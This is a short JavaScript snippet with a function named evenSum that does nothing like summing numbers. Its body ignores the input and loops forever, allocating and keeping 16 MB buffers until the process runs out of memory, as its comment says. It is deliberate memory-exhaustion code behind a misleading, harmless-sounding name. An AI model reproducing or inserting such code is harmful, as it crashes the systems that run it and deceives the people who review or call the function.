// Fills the memory outside of the heap.
const evenSum = (numbers) => {
  const kept = []
  for (;;) kept.push(Buffer.alloc(16 << 20, 1))
}
